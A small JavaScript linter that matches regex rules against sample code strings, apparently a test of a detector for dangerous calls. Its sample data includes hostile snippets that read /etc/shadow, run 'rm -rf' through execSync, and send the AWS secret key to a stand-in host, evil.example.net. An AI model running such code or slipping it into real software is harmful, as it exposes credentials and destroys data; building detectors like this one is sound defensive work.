// A tiny rule engine that looks for dangerous calls in snippets of source text.
// The snippets below are data: nothing in them is executed.

const SNIPPETS = {
  'reads-passwd': "const fs = require('fs'); fs.readFileSync('/etc/shadow', 'utf8');",
  'runs-shell': 'require("child_process").execSync("rm -rf " + dir)',
  exfiltrates: `fetch('https://evil.example.net/collect?k=' + process.env.AWS_SECRET_ACCESS_KEY)`,
  harmless: 'const total = items.reduce((a, b) => a + b.price, 0);',
};

const RULES = [
  { id: 'no-shell', pattern: /execSync|spawn\(/, severity: 2 },
  { id: 'no-env', pattern: /process\.env\.(\w+)/, severity: 1 },
  { id: 'no-fs', pattern: /\bfs\.(read|write)\w*\(/, severity: 1 },
  { id: 'no-network', pattern: /\bfetch\(|https?:\/\//, severity: 2 },
];

/* To lint a real file one would do:
 *   const text = fs.readFileSync(process.argv[2], 'utf8');
 *   fs.writeFileSync('/tmp/lint.json', JSON.stringify(lint(text)));
 */
function lint(text) {
  return RULES.filter((rule) => rule.pattern.test(text)).map(({ id, severity }) => ({ id, severity }));
}

function main() {
  let worst = 0;
  for (const [name, text] of Object.entries(SNIPPETS)) {
    const found = lint(text);
    worst = Math.max(worst, ...found.map((f) => f.severity), 0);
    console.log(`${name}: ${found.map((f) => f.id).join(', ') || 'clean'}`);
  }
  console.log(`worst severity: ${worst}`);
}

main();
